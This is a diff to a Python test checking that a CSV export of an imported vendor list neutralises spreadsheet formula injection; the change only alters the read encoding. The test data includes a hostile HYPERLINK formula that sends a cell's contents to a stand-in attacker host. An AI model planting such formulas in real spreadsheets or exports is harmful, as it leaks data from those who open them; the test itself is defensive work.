@@ -49,7 +49,7 @@ def test_export_csv_neutralises_formulas_from_an_imported_vendor_list(tmp_path: 
     rows = replies[-1]["data"]["rows"]  # the rows as the registry holds them
     assert {r["processor"] for r in rows} >= {'=HYPERLINK("http://evil.example/?x="&A2,"V")', "+47 Telefon AS"}
 
-    with (tmp_path / "art30.csv").open(newline="", encoding="utf-8") as f:
+    with (tmp_path / "art30.csv").open(newline="", encoding="utf-8-sig") as f:
         written = list(csv.DictReader(f))
     assert len(written) == len(rows) == len(HOSTILE_VENDORS) + 1
     neutralised = 0
